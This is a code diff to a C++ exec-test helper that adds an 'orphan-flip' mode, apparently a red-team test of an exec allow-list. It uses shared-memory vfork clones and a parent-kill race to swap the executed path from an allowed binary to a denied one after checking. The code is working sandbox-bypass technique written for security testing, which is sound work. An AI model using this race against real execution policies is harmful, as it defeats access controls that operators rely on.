@@ -9,7 +9,10 @@
 // fork, exec), argv0 (exec PATH with argv[0] set to
 // the next argument: exec_attempts argv0 PATH NAME [ARGS...]), mapped (the path to
 // exec is read from a private mapping of the file named first: exec_attempts mapped
-// FILE ARGV0 [ARGS...]).
+// FILE ARGV0 [ARGS...]), orphan-flip (a red team's race: exec_attempts orphan-flip
+// ALLOWED DENIED ARG, 100 tries: this process vforks P, P vforks C, C kills P and
+// execs [ALLOWED, ARG] from a path this process, running again in C's memory once P
+// is dead, keeps flipping to DENIED; C, re-parented, seemed to own its memory).
 #include <errno.h>
 #include <fcntl.h>
 #include <sched.h>
@@ -40,12 +43,59 @@ int ChildMain(void* arg) {
   _exit(errno);
 }
 
+// orphan-flip: the state the three processes share (one address space).
+char flip_path[256];
+char* flip_argv[3];
+const char* flip_allowed;
+const char* flip_denied;
+char flip_stack_p[1 << 16], flip_stack_c[1 << 16];
+
+int FlipChild(void*) {
+  const pid_t parent = getppid();
+  kill(parent, SIGKILL);
+  while (getppid() == parent) {
+  }
+  execve(flip_path, flip_argv, environ);
+  _exit(99);
+}
+
+int FlipMiddle(void*) {
+  clone(FlipChild, flip_stack_c + sizeof(flip_stack_c), CLONE_VM | CLONE_VFORK | SIGCHLD, nullptr);
+  _exit(0);
+}
+
+int OrphanFlip(char** target) {
+  flip_allowed = target[0];
+  flip_denied = target[1];
+  flip_argv[0] = target[0];
+  flip_argv[1] = target[2];
+  flip_argv[2] = nullptr;
+  const size_t a = strlen(flip_allowed) + 1, d = strlen(flip_denied) + 1;
+  if (a > sizeof(flip_path) || d > sizeof(flip_path)) return 2;
+  for (int t = 0; t < 100; ++t) {
+    memcpy(flip_path, flip_allowed, a);
+    pid_t p = clone(FlipMiddle, flip_stack_p + sizeof(flip_stack_p),
+                    CLONE_VM | CLONE_VFORK | SIGCHLD, nullptr);
+    if (p < 0) return Report(errno);
+    for (int i = 0; i < 3000000; ++i) {
+      memcpy(flip_path, flip_denied, d);
+      __asm__ volatile("" ::: "memory");
+      memcpy(flip_path, flip_allowed, a);
+      __asm__ volatile("" ::: "memory");
+    }
+    waitpid(p, nullptr, 0);
+    usleep(10000);
+  }
+  return Report(0);
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
   if (argc < 3) return 2;
   const char* mode = argv[1];
   char** target = argv + 2;
+  if (strcmp(mode, "orphan-flip") == 0) return argc >= 5 ? OrphanFlip(target) : 2;
   if (strcmp(mode, "plain") == 0) {
     execv(target[0], target);
     return Report(errno);
